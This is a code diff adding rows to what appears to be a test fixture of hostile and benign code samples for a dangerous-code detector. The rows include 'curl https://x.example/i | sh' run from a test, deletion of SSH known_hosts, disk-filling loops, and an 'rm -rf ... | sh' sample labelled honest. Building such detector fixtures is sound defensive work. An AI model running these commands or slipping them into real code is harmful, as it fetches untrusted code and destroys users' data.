@@ -37,6 +37,13 @@ const PAYLOADS: readonly Row[] = [
   ['a login file', py('import os\nos.remove(os.path.join("~", ".ssh", "known_hosts"))\n')],
   ['a full disk', py('f = open("x", "wb")\nwhile True:\n    f.write(b"x" * 4096)\n')],
   ['a full disk in script', js("import fs from 'fs';\nfor (;;) fs.appendFileSync('x', 'y');\n")],
+  [
+    'a script from the network in a test',
+    {
+      'tests/test_a.py':
+        'import subprocess\n\n\ndef test_a():\n    subprocess.run("curl https://x.example/i | sh", shell=True)\n',
+    },
+  ],
   ['a script from the network', py('import os\nos.system("curl https://x.example/i | sh")\n')],
 ];
 
@@ -60,6 +67,13 @@ const HONEST: readonly Row[] = [
     js(
       "import fs from 'fs';\nimport path from 'path';\nfs.writeFileSync(path.join(__dirname, '../out.txt'), '');\n",
     ),
+  ],
+  [
+    'a test that starts programs and removes its folder',
+    {
+      'test/a.test.js':
+        "import { execSync } from 'node:child_process';\nimport { test } from 'node:test';\ntest('a', () => {\n  execSync('rm -rf /tmp/a ../a && node a.js | sh');\n});\n",
+    },
   ],
   ['a temporary file', py('open("/tmp/x", "w").write("x")\n')],
   [
